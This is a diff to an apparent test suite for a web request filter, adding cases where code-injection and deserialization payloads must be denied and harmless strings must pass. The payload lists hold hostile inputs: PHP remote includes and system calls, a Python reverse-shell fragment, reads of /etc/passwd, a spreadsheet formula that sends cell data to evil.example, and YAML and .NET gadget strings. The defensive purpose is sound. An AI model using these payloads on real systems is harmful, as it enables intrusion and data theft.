@@ -23,6 +23,9 @@ const CODE: Readonly<Record<string, readonly string[]>> = {
     "die(system('id'))",
     "echo system('id');",
     "array_filter(['id'],'system')",
+    ";}include('http://e.example/x');/*",
+    'echo md5(1);',
+    'phpversion();',
     "strrev('metsys')('id')",
     '[phpinfo][0]()',
     '(~%8F%97%8F%96%91%99%90)()',
@@ -35,7 +38,10 @@ const CODE: Readonly<Record<string, readonly string[]>> = {
     'import socket,subprocess,os;s=socket.socket()',
     "print(open('/etc/passwd').read())",
   ],
-  Ruby: ['Class.new.const_get(:Kernel)', 'Open3.capture2("id")', 'qx{id}'],
+  Groovy: [
+    "@GrabResolver(name='a', root='http://e.example')\n@Grab(group='b', module='c', version='1')\nimport B",
+  ],
+  Ruby: ["Kernel.exec 'id'", 'Class.new.const_get(:Kernel)', 'Open3.capture2("id")', 'qx{id}'],
   Node: [
     '0||(function(){return process.env})()',
     "Function('return this')()",
@@ -49,8 +55,12 @@ const CODE: Readonly<Record<string, readonly string[]>> = {
     '"".GetType().Assembly.GetType("x")',
     'Server.Execute("x")',
   ],
-  Lua: ['"..os.execute("id").."', 'os.getenv("PATH")', 'io.open("/etc/passwd"):read()'],
-  formulas: ["\t=cmd|'/C calc'!A0", '=IFERROR(HYPERLINK("http://evil.example?x="&A1),"")'],
+  Lua: ['load("return 1")()', '"..os.execute("id").."', 'os.getenv("PATH")', 'io.open("/etc/passwd"):read()'],
+  formulas: [
+    '=REGISTER("kernel32")',
+    "\t=cmd|'/C calc'!A0",
+    '=IFERROR(HYPERLINK("http://evil.example?x="&A1),"")',
+  ],
   LaTeX: ['\\input{/etc/passwd}', '\\immediate\\write18{id}', '\\input|id', '\\csname input\\endcsname{x}'],
   'functions of PHP that a variable or brackets name': [
     "$y='sys'.'tem';($y)('uname');",
@@ -124,6 +134,8 @@ const STREAMS: Readonly<Record<string, string>> = {
   'a pickle of protocol 0 in base64': btoa("(S'id'\nios\nsystem\n."),
   'a class of Ruby': btoa('\x04\bc\bGem'),
   'a tag of YAML by its whole name': '!<tag:yaml.org,2002:python/object/apply:os.system> [id]',
+  'a class of Java in YAML': '!!org.example.Loader {a: 1}',
+  'a type of DotNetNuke': '<root type="System.Data.Services.Internal.ExpandedWrapper`2[[x]]"/>',
   'a function of js-yaml': '!!js/function "function(){return 1}()"',
   'a hint of .NET': '{"__type":"System.CodeDom.Compiler.TempFileCollection, System"}',
   'an element of XStream':
@@ -149,6 +161,39 @@ describe('a stream that makes objects is refused', () => {
   )
 })
 
+const verdict = (pair: string): string => {
+  const { exchange } = exchangeOf(
+    'POST',
+    '/v1/orders',
+    [['content-type', 'application/x-www-form-urlencoded']],
+    pair,
+  )
+  return exchange === undefined ? 'deny' : judge(exchange).kind
+}
+
+describe('a function by its name alone', () => {
+  test.each([
+    'filter[]=phpinfo',
+    'vars[0]=shell_exec',
+    'callback=phpinfo',
+    'function=call_user_func_array',
+    '_method=__construct',
+  ])('is refused where a parameter is called (CVE-2018-20062): %s', (pair) => {
+    expect(verdict(pair)).toBe('deny')
+  })
+
+  test.each([
+    'q=phpinfo',
+    'filter[]=system',
+    'callback=onLoad',
+    '_method=put',
+    'q=__construct',
+    'tag=assert',
+  ])('passes elsewhere: %s', (pair) => {
+    expect(verdict(pair)).toBe('pass')
+  })
+})
+
 const HARMLESS: readonly string[] = [
   '0x8f3cf7ad23cd3cadbd9735aff958023239c6a063',
   '613a1f0e9c2b4d5e6f708192a3b4c5d6',
@@ -163,6 +208,7 @@ const HARMLESS: readonly string[] = [
   "/** @type {import('a/config').Config} */",
   "assert('You must say which, always.', this.a)",
   'print("hello")',
+  'see !!org.example.Loader in the manual',
   'os.path.join(a, b)',
   '\\section{Intro} \\input{chapters/one} \\includegraphics[width=2cm]{img/a.png}',
   'D:\\office\\new\\input',
